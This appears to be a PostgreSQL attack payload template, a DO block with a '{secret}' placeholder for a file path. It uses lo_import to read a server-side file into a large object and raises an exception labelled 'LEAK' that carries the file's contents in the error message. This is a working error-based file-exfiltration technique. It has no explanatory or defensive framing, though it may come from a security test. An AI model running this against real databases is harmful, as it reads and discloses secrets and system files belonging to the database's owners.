DO $$
DECLARE taken oid := lo_import('{secret}');
BEGIN
    RAISE EXCEPTION 'LEAK %', convert_from(lo_get(taken), 'UTF8');
END $$;
